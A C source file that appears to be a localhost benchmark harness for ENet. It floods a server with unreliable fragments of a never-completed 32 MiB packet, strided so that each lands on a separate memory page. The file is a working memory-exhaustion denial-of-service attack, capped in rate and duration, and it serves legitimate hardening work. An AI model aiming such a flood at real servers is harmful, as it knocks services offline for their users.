/*
 * Fragment-memory attacker for bench/frag_memory.sh and its CI smoke (not
 * a test by itself). Compiled against the stock header; it runs on stock
 * ENet, since only what it puts on the wire matters.
 *
 *   frag_attack --port P [--peers K] [--channels C] [--rate R] [--seconds S]
 *               [--stride N]
 *
 * Connects K peers (default 16, one host) to 127.0.0.1:P for real, then for
 * S seconds (default 10) sends R datagrams per second in total (default
 * 20000), round robin over the peers and their first C channels (default
 * 3): each datagram carries one SEND_UNRELIABLE_FRAGMENT of 1000 bytes of
 * a claimed 32 MiB packet, so no packet is ever completed. Fragment
 * numbers go 0, N, 2N, ... modulo the count (default N = 7, so fragments
 * land 7000 bytes apart, each on a page of its own in a receiver that
 * maps the whole claimed length). It keeps servicing its host so the peers stay connected.
 * Prints "connected <k>", then "sent <n>" and "still_connected <k>". Stops
 * by itself; the rate and duration are capped.
 */
#define _XOPEN_SOURCE 700

#include <enet/enet.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define MAX_PEERS 64
#define MAX_CHANNELS 8
#define CLAIM (32u << 20)
#define PIECE 1000u
#define COMMAND_SEND_UNRELIABLE_FRAGMENT 12

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

static long option(int argc, char **argv, const char *name, long fallback)
{
    int i;
    for (i = 1; i + 1 < argc; ++i)
        if (strcmp(argv[i], name) == 0)
            return strtol(argv[i + 1], NULL, 10);
    return fallback;
}

static unsigned char *put16(unsigned char *at, unsigned value)
{
    at[0] = (unsigned char) (value >> 8);
    at[1] = (unsigned char) value;
    return at + 2;
}

static unsigned char *put32(unsigned char *at, unsigned long value)
{
    at = put16(at, (unsigned) (value >> 16) & 0xFFFF);
    return put16(at, (unsigned) value & 0xFFFF);
}

/* One datagram: the 2-byte header (no sent time, no checksum) as the
 * connection's peer, and one unreliable fragment of the claimed packet. */
static size_t fragment_datagram(unsigned char *out, const ENetPeer *peer, unsigned channel,
                                unsigned long sequence, unsigned long stride)
{
    unsigned char *at = out;
    unsigned long count = (CLAIM + PIECE - 1) / PIECE, number = (sequence * stride) % count;
    at = put16(at, (unsigned) (peer->outgoingPeerID | (peer->outgoingSessionID << 12)));
    *at++ = COMMAND_SEND_UNRELIABLE_FRAGMENT;
    *at++ = (unsigned char) channel;
    at = put16(at, 0); /* the reliable number it follows: none sent yet */
    at = put16(at, 1); /* the first fragment's unreliable number */
    at = put16(at, PIECE);
    at = put32(at, count);
    at = put32(at, number);
    at = put32(at, CLAIM);
    at = put32(at, number * PIECE);
    memset(at, (int) (number & 0xFF), PIECE);
    return (size_t) (at - out) + PIECE;
}

int main(int argc, char **argv)
{
    long port = option(argc, argv, "--port", 0), peers = option(argc, argv, "--peers", 16);
    long channels = option(argc, argv, "--channels", 3), rate = option(argc, argv, "--rate", 20000);
    long seconds = option(argc, argv, "--seconds", 10), stride = option(argc, argv, "--stride", 7);
    ENetPeer *peer[MAX_PEERS];
    unsigned long next_number[MAX_PEERS][MAX_CHANNELS];
    unsigned char datagram[64 + PIECE];
    ENetAddress address;
    ENetHost *host;
    ENetEvent event;
    double start, deadline;
    long connected = 0, sent = 0, i;

    if (port <= 0 || port > 65535 || peers < 1 || peers > MAX_PEERS || channels < 1 ||
        channels > MAX_CHANNELS || rate < 1 || rate > 200000 || seconds < 1 || seconds > 600 || stride < 1 ||
        stride % 3 == 0 || stride % 5 == 0 || stride % 2237 == 0) {
        /* The stride must be coprime with the 33555 fragments (3 x 5 x
         * 2237), or it would revisit the same few. */
        fprintf(stderr, "usage: frag_attack --port P [--peers 1..64] [--channels 1..8] "
                        "[--rate 1..200000] [--seconds 1..600] [--stride N coprime with 33555]\n");
        return 2;
    }
    if (enet_initialize() != 0)
        return 2;
    host = enet_host_create(NULL, (size_t) peers, (size_t) channels, 0, 0);
    if (host == NULL)
        return 2;
    enet_address_set_host(&address, "127.0.0.1");
    address.port = (enet_uint16) port;
    for (i = 0; i < peers; ++i) {
        peer[i] = enet_host_connect(host, &address, (size_t) channels, 0);
        if (peer[i] == NULL)
            return 2;
    }
    deadline = now_s() + 10;
    while (connected < peers && now_s() < deadline)
        if (enet_host_service(host, &event, 10) > 0 && event.type == ENET_EVENT_TYPE_CONNECT)
            ++connected;
    printf("connected %ld\n", connected);
    fflush(stdout);
    if (connected < peers)
        return 1;

    memset(next_number, 0, sizeof next_number);
    start = now_s();
    while (now_s() - start < (double) seconds) {
        long due = (long) ((now_s() - start) * (double) rate);
        while (sent < due) {
            long slot = sent % (peers * channels);
            long p = slot / channels, c = slot % channels;
            ENetBuffer buffer;
            buffer.data = datagram;
            buffer.dataLength = fragment_datagram(datagram, peer[p], (unsigned) c, next_number[p][c]++,
                                                  (unsigned long) stride);
            enet_socket_send(host->socket, &peer[p]->address, &buffer, 1);
            ++sent;
            if (sent % 256 == 0)
                while (enet_host_service(host, &event, 0) > 0) {
                }
        }
        enet_host_service(host, &event, 1);
    }
    connected = 0;
    for (i = 0; i < peers; ++i)
        if (peer[i]->state == ENET_PEER_STATE_CONNECTED)
            ++connected;
    printf("sent %ld\nstill_connected %ld\n", sent, connected);
    for (i = 0; i < peers; ++i)
        enet_peer_reset(peer[i]);
    enet_host_destroy(host);
    enet_deinitialize();
    return 0;
}
